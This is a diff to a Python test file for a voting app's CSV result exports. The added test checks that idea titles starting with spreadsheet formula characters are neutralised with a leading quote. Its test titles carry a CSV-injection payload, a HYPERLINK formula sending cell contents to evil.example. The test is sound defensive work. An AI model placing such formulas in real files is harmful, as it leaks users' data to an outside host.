@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import csv
 import hashlib
+import io
 import re
 from collections.abc import Callable, Iterator
 from contextlib import contextmanager
@@ -18,8 +20,10 @@ from cocreate.accounts.models import User
 from cocreate.brands.models import Membership, Role
 from cocreate.campaigns.models import StageKind
 from cocreate.clock import FrozenClock
+from cocreate.csv_cells import FORMULA_STARTS, neutral_cell
+from cocreate.ideas.models import Idea
 from cocreate.voting.models import Advancement, Method, TieBreak, Visibility
-from cocreate.voting.results import certify_round
+from cocreate.voting.results import campaign_rounds, certify_round, verify_round
 from cocreate.voting.results_models import Announcement, JuryScore
 from tests.campaigns_support import visible_text
 from tests.conftest import log_in as first_log_in
@@ -143,6 +147,36 @@ def test_certified_results_are_public_with_the_digest_and_exports(
     assert len(table) == 6
 
 
+def test_exports_neutralise_titles_a_spreadsheet_would_run_and_stay_verifiable(
+    client: TestClient, session: Session, clock: FrozenClock
+) -> None:
+    contest = make_contest(session, voters=2, ideas=len(FORMULA_STARTS))
+    titles = {}
+    for idea, start in zip(contest.ideas, FORMULA_STARTS, strict=True):
+        idea.title = f'{start}HYPERLINK("http://evil.example/?"&A1,"Idea")'
+        titles[idea.id] = idea.title
+    session.add_all(contest.ideas)
+    session.commit()
+    v, ideas = contest.voters, contest.ideas
+    write_votes(session, contest.round, [(v[0], ideas[0], 1), (v[1], ideas[0], 1)])
+    clock.at = CLOSED
+    done = certify_round(session=session, round_=contest.round, now=CLOSED)
+
+    rows = list(csv.reader(io.StringIO(client.get("/c/flavour/results.csv?round=1").text)))
+    assert rows[0][4] == "title" and len(rows) == 1 + len(FORMULA_STARTS)
+    for row in rows[1:]:
+        assert row[4] == "'" + titles[int(row[3])], row
+    log = client.get("/c/flavour/votes.csv?round=1").text
+    _header, body = log.split("\n", 1)
+    assert hashlib.sha256(body.encode()).hexdigest() == done.digest
+    assert all(neutral_cell(cell) == cell for row in csv.reader(io.StringIO(log)) for cell in row)
+    info = campaign_rounds(session=session, campaign_id=contest.campaign.id or 0)[0]
+    assert verify_round(session=session, info=info).ok
+    session.expire_all()
+    stored = {i.id: i.title for i in session.exec(select(Idea)).all()}
+    assert all(stored[i] == t for i, t in titles.items())  # the data keeps what was typed
+
+
 def test_results_paginate_and_bad_parameters_are_not_found(
     client: TestClient, session: Session
 ) -> None:
@@ -152,8 +186,11 @@ def test_results_paginate_and_bad_parameters_are_not_found(
     second = client.get("/c/flavour/results?round=1&page=2")
     assert "Idea" in second.text and "Page 2 of 2" in visible_text(second.text)
     assert client.get("/c/flavour/results?round=9").status_code == 404
-    assert client.get("/c/flavour/results?round=x").status_code == 404
-    assert client.get("/c/flavour/results?page=%00").status_code == 404
+    assert client.get(f"/c/flavour/results?round={2**63}").status_code == 404
+    # Malformed numbers are bad requests (cocreate.integers), as everywhere.
+    assert client.get("/c/flavour/results?round=x").status_code == 400
+    assert client.get("/c/flavour/results?round=%C2%B2").status_code == 400
+    assert client.get("/c/flavour/results?page=%00").status_code == 400
     assert client.get("/c/nope/results").status_code == 404
 
 
